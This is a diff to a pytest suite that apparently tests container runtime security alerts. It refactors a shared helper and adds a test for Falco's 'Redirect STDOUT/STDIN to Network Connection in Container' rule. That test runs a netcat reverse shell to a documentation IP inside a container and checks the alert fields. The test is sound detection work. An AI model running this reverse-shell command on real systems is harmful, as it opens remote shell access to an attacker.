@@ -267,17 +267,22 @@ def _found(
 RUNTIME_PARENTS = ("runc", "conmon", "exe")
 
 
-@pytest.mark.parametrize("family", sorted(FAMILIES))
-def test_in_a_runc_container(node: Any, runc_container: Any, family: str) -> None:
-    fam = FAMILIES[family]
-    c = runc_container(caps=["CAP_NET_ADMIN"] if fam.net else [], shm_exec=fam.shm_exec)
+def _in_container(node: Any, c: Any, fam: Family, retry_s: float = 10.0) -> dict[str, Any]:
+    """Perform the family's behaviour with `<runtime> exec` in container `c`; its alert's fields."""
     mark = node.mark()
 
     def act() -> None:
         c.exec(["/bin/sh", "-c", fam.script])
 
     act()
-    f = _found(node, fam, c.id[:12], mark, act)
+    return _found(node, fam, c.id[:12], mark, act, retry_s)
+
+
+@pytest.mark.parametrize("family", sorted(FAMILIES))
+def test_in_a_runc_container(node: Any, runc_container: Any, family: str) -> None:
+    fam = FAMILIES[family]
+    c = runc_container(caps=["CAP_NET_ADMIN"] if fam.net else [], shm_exec=fam.shm_exec)
+    f = _in_container(node, c, fam)
     _check_process(fam, f, RUNTIME_PARENTS)
     # runc has no image: the bundle's root filesystem is the container's
     assert f.get("container.image.repository") in (None, "")
@@ -287,13 +292,7 @@ def test_in_a_runc_container(node: Any, runc_container: Any, family: str) -> Non
 def test_in_a_podman_container(node: Any, podman_container: Any, family: str) -> None:
     fam = FAMILIES[family]
     c = podman_container(caps=["NET_ADMIN"] if fam.net else [], shm_exec=fam.shm_exec)
-    mark = node.mark()
-
-    def act() -> None:
-        c.exec(["/bin/sh", "-c", fam.script])
-
-    act()
-    f = _found(node, fam, c.id[:12], mark, act)
+    f = _in_container(node, c, fam)
     _check_process(fam, f, RUNTIME_PARENTS)
     assert f.get("container.image.repository") == IMAGE, node.diagnosis()
     assert f.get("container.image.tag") == "latest"
@@ -328,13 +327,28 @@ def test_in_a_podman_container_with_the_fallback_sensors(
         pytest.skip(f"the fallback sensors cannot see it: {fam.fallback_blind}")
     c = podman_container(caps=["NET_ADMIN"] if fam.net else [], shm_exec=fam.shm_exec)
     time.sleep(0.3)  # the container's root is watched from its first event on
-    mark = fallback_node.mark()
-
-    def act() -> None:
-        c.exec(["/bin/sh", "-c", fam.script])
-
-    act()
     # the proc connector names only the pid: a process gone before its /proc entry was read has no
-    # command line (a known race of this sensor, counted in its exec_unread): repeat it
-    f = _found(fallback_node, fam, c.id[:12], mark, act, retry_s=2.0)
+    # command line (a known race of this sensor, counted in its exec_unread): repeat it sooner
+    f = _in_container(fallback_node, c, fam, retry_s=2.0)
     assert f.get("container.image.repository") == IMAGE, fallback_node.diagnosis()
+
+
+def test_falco_stdin_stdout_redirected_to_a_socket_in_a_podman_container(
+    falco_node: Any, podman_container: Any
+) -> None:
+    """Falco's stable rule "Redirect STDOUT/STDIN to Network Connection in Container": netcat's -e
+    moves the connected socket onto the shell's stdin, stdout and stderr with dup2. The sensor must
+    say that the descriptor dup2 copies is an IPv4 socket, and to where."""
+    fam = Family(
+        "Redirect STDOUT/STDIN to Network Connection in Container",
+        NET_SETUP
+        + "(echo exit | /bin/nc -l -p 4444 >/dev/null 2>&1 &); /bin/sleep 0.3;"
+        + " /bin/nc 192.0.2.10 4444 -e /bin/sh; exit 0",
+        "nc",
+        net=True,
+    )
+    f = _in_container(falco_node, podman_container(caps=["NET_ADMIN"]), fam)
+    assert f["fd.type"] == "ipv4"
+    assert f["fd.sip"] == "192.0.2.10" and f["fd.rport"] == 4444
+    assert f["proc.pname"] == "sh"
+    assert f["container.image.repository"] == IMAGE
